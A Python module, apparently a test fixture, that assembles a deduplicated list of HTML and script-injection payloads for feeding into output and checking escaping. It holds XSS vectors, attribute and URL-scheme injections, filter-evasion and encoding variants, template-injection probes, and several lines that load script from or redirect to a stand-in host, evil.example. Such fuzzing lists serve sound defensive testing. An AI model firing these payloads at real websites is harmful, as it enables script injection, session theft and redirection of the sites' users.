"""Texts that would run a script or add to a page where they are written into it as they are."""

from itertools import product

# what closes the place where a text stands
_OUT_OF = (
    "", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>",
    "</svg>",
)  # fmt: skip
_VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)" x="',
    '" style="position:fixed;inset:0', '" onpointerenter=alert(1) "', "` onerror=`alert(1)", '" srcdoc="<b>x</b>',
    'x" formaction="javascript:alert(1)', 'x" http-equiv="refresh" content="0;url=//evil.example',
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x.js", "\\\\evil.example",
    "javascript://%0aalert(1)",
)  # fmt: skip
_ODD = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<img/src='x'/onerror='alert(1)'>",
    "<<script>alert(1);//<</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<x contenteditable onblur=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{7*7}}{% for x in y %}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= 7*7 %>",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>",
    "<img src=x onerror=\u0061lert(1)>",
    "\ufeff<svg onload=alert(1)>",
    "\ue000\ue001\ue002\ue003\ue004<b>",
    "<p>一</p><h1>假标题</h1>",
    "<button form=none>交费</button>",
    "a" * 30 + "<b>x",
)

PAYLOADS = tuple(dict.fromkeys([*map("".join, product(_OUT_OF, _VECTORS)), *_ATTRIBUTES, *_ADDRESSES, *_ODD]))


def all_of(number: int) -> str:
    """Write all payloads one after the other, beginning with another one for each number."""
    start = number * 37 % len(PAYLOADS)
    return " ".join(PAYLOADS[start:] + PAYLOADS[:start])
